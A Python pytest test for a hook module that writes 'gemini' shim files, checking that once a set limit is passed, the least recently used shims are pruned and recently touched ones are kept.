def test_past_the_limit_the_oldest_names_go(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    folder = tmp_path / "gemini"
    monkeypatch.setattr(ztsa_hook, "SHIM_MAX", 10)
    monkeypatch.setattr(ztsa_hook, "SHIM_KEEP", 6)
    ztsa = ["/opt/ztsa/bin/ztsa"]
    for i in range(10):
        ztsa_hook.write_gemini_shim(str(folder), f"{i:064x}", ztsa)
        os.utime(folder / f"{i:064x}", (1000 + i, 1000 + i))  # long unused
    recent = f"{5:064x}"
    ztsa_hook.write_gemini_shim(str(folder), recent, ztsa)  # used now: kept
    ztsa_hook.write_gemini_shim(str(folder), "f" * 64, ztsa)  # the 11th: prunes
    left = sorted(p.name for p in folder.iterdir())
    assert left == sorted([f"{i:064x}" for i in (6, 7, 8, 9)] + [recent, "f" * 64])
